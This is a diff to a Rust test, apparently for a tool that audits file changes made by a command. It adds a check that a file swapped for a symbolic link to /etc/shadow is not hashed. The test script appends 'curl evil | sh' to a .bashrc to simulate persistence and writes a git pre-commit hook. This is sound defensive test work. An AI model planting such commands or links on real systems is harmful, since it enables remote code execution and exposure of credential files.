@@ -166,7 +166,8 @@ fn create_write_rename_delete_and_persistence() {
         "cd {d} && echo new > created.txt && echo more >> existing.txt && mv created.txt moved.txt \
          && rm existing.txt && mkdir gone && rmdir gone \
          && echo 'curl evil | sh' >> home/.bashrc && printf '#!/bin/sh\\n' > repo/.git/hooks/pre-commit \
-         && echo sample > repo/.git/hooks/pre-commit.sample"
+         && echo sample > repo/.git/hooks/pre-commit.sample \
+         && echo hi > swapped.txt && ln -sf /etc/shadow swapped.txt"
     );
     let r = run(&[], &["sh", "-c", &script]);
     assert_eq!(r.code(), Some(0), "{}", r.stderr());
@@ -178,6 +179,13 @@ fn create_write_rename_delete_and_persistence() {
     assert_eq!(
         moved["sha256"], "7aa7a5359173d05b63cfd682e3c38487f3cb4f7f1d60659fe59fab1505977d4c",
         "sha256 of the final content: {moved:#}"
+    );
+    // A written file replaced by a symbolic link is not hashed through it.
+    let swapped = one(&r, &format!("{d}/swapped.txt"), "create");
+    assert_eq!(swapped["sha256"], Value::Null, "{swapped:#}");
+    assert_eq!(
+        swapped["sha256_skipped"],
+        "a symbolic link (to /etc/shadow) at the end"
     );
     one(&r, &format!("{d}/existing.txt"), "delete");
     one(&r, &format!("{d}/gone"), "delete");
